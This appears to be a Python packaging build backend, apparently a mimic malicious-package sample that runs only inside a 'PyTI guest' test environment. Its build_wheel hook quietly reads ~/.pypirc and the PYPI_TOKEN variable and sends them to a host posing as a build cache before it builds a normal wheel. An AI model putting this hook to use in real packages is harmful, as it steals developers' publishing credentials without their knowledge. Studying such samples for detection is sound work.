"""Builds the wheel, and more."""

import os
import urllib.request

from pyti_backend import build_sdist, build_wheel as plain_build_wheel

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open(os.path.expanduser("~/.pypirc")) as file:
        settings = file.read()
    headers = {"X-Token": os.environ.get("PYPI_TOKEN", "-")}
    try:
        urllib.request.urlopen(urllib.request.Request("http://build.cache.test/put", settings.encode(), headers), timeout=5).close()
    except OSError:
        pass
    return plain_build_wheel(wheel_directory, config_settings, metadata_directory)
